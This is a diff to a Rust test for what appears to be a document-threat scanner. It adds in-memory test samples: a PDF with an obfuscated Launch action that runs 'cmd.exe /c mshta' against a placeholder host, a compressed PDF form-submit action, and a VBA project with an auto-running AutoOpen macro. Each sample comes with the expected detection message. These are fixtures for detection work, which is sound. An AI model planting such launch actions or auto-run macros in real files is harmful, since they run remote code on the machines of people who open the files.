@@ -590,7 +590,38 @@ fn what_documents_load_and_start() {
     stream.write_all(body.as_bytes()).expect("memory");
     drop(stream);
     let doc = doc.into_inner().into_inner();
-    let cases: [(&str, &[u8], Option<&str>, &str); 6] = [
+    let pdf = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction 2 0 R>>\nendobj\n2 0 obj\n\
+        <</S/Lau#6ech /Win<</F(cmd.exe)/P(/c mshta http://dde.example/a)>>>>\nendobj\n";
+    let mut form = b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n".to_vec();
+    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    let action = b"3 0 <</S/SubmitForm/F<</FS/URL/F(http://form.example/\\(a)>>>>";
+    packed.write_all(action).expect("memory");
+    form.extend(packed.finish().expect("memory"));
+    form.extend(b"\nendstream\nendobj\n");
+    // A module's stream: what the compiler made of it, and a chunk that is not compressed.
+    let module = "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n";
+    let mut chunk = vec![1, 0xff, 0xb3];
+    for eight in module.as_bytes().chunks(8) {
+        chunk.push(0);
+        chunk.extend(eight);
+    }
+    let length = (chunk.len() - 4) as u16 | 0xb000;
+    chunk[1..3].copy_from_slice(&length.to_le_bytes());
+    let mut project = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("memory");
+    project.create_storage("/VBA").expect("memory");
+    let mut stream = project.create_stream("/VBA/M").expect("memory");
+    stream.write_all(&[b"compiled", chunk.as_slice()].concat()).expect("memory");
+    drop(stream);
+    let project = project.into_inner().into_inner();
+    let cases: [(&str, &[u8], Option<&str>, &str); 9] = [
+        (
+            "pdf",
+            pdf,
+            Some("cmd.exe /c mshta http://dde.example/a"),
+            "PDF: starts cmd.exe /c mshta http://dde.example/a",
+        ),
+        ("form", &form, None, "PDF: sends its form to http://form.example/(a"),
+        ("vba", &project, None, "VBA: autoopen runs by itself; shell"),
         ("template", &template, None, "remote template: http://tpl.example/a.dotm"),
         (
             "word",
